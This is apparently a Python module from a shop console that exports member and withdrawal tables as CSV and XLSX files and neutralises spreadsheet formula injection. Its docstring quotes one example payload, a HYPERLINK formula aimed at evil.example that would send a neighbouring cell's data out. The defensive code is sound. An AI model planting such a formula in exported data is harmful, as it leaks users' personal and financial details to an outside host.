"""Files the console's tables export: CSV (UTF-8 with a byte-order mark, so that Excel
reads Chinese) and XLSX (openpyxl, written row by row). Figures keep their exact text in
CSV; in XLSX an amount is a number cell (Decimal, never a float made from text) with
the yuan's format, so a spreadsheet sums it.

Text comes from members and integrators (a member's name is whatever the shop's user
typed), so no text may become a formula when the file is opened (CSV injection: a name
`=HYPERLINK("https://evil.example/?"&B2, "…")` would send the next column away). In
XLSX every text is a string cell, never a formula, its text exact. In CSV a text that
begins as a formula does (`=`, `+`, `-`, `@`, a tab or a carriage return) and holds
anything but digits, spaces, `.`, `,`, `+` and `-` (which can call nothing: a phone
`+86 138…` stays as it is) is written after a `'`, as spreadsheets mark text."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from decimal import Decimal
from typing import Any

from fastapi.responses import StreamingResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from zengzhi.service.base import Context
from zengzhi.service.queries.console_members import MemberRow
from zengzhi.service.queries.console_withdrawals import WithdrawalRow
from zengzhi.web.console.session import Staff

Cell = str | int | Decimal | datetime | None

MEMBER_HEADINGS = (
    "id", "name", "phone", "joined_utc", "level", "points", "wallet_yuan", "spent_yuan", "team",
)  # fmt: skip


def member_cells(row: MemberRow) -> tuple[Cell, ...]:
    return (
        row.id,
        row.name,
        row.phone,
        row.joined,
        row.level,
        Decimal(row.points),
        Decimal(row.wallet),
        Decimal(row.spent),
        row.team,
    )


WITHDRAWAL_HEADINGS = (
    "withdrawal", "member", "payee", "real_name_verified", "amount_yuan", "fee_yuan",
    "payout_yuan", "status", "requested_utc",
)  # fmt: skip


def withdrawal_cells(row: WithdrawalRow) -> tuple[Cell, ...]:
    return (
        row.id,
        row.member,
        row.payee,
        "yes" if row.verified else "no",
        Decimal(row.amount),
        Decimal(row.fee),
        Decimal(row.payout),
        row.status,
        row.requested_at,
    )


def _text(cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, datetime):
        return cell.strftime("%Y-%m-%d %H:%M:%S")
    return str(cell)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_INERT = re.compile(r"[0-9 .,+-]*")


def inert(text: str) -> str:
    """A CSV cell's text that no spreadsheet opens as a formula."""
    if text.startswith(_FORMULA_START) and not _INERT.fullmatch(text):
        return "'" + text
    return text


def _csv_cell(cell: Cell) -> str:
    return inert(cell) if isinstance(cell, str) else _text(cell)


def csv_lines(headings: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[bytes]:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writerow(headings)
    for row in rows:
        writer.writerow([_csv_cell(cell) for cell in row])
        if buffer.tell() > 64_000:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def _xlsx_cell(sheet: Any, cell: Cell) -> Any:
    if isinstance(cell, datetime):
        return cell.replace(tzinfo=None)
    if isinstance(cell, str):  # a string cell: openpyxl makes "=…" a formula
        text = WriteOnlyCell(sheet, value=cell)
        text.data_type = "s"
        return text
    return cell


def xlsx(headings: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    book = Workbook(write_only=True)
    sheet: Any = book.create_sheet()
    sheet.append(list(headings))
    for row in rows:
        sheet.append([_xlsx_cell(sheet, cell) for cell in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def attachment(context: Context, user: Staff, what: str, extension: str) -> dict[str, str]:
    """The download's header, named tenant-what-YYYYmmdd-HHMM.ext (UTC): ASCII, so
    that every browser keeps the name."""
    name = f"{user.principal.tenant}-{what}-{context.clock():%Y%m%d-%H%M}.{extension}"
    return {"Content-Disposition": f'attachment; filename="{name}"'}


def csv_download(
    context: Context,
    user: Staff,
    what: str,
    headings: Sequence[str],
    rows: Iterable[Sequence[Cell]],
) -> StreamingResponse:
    """A table as a CSV download, streamed as it is read."""
    return StreamingResponse(
        csv_lines(headings, rows),
        media_type="text/csv; charset=utf-8",
        headers=attachment(context, user, what, "csv"),
    )
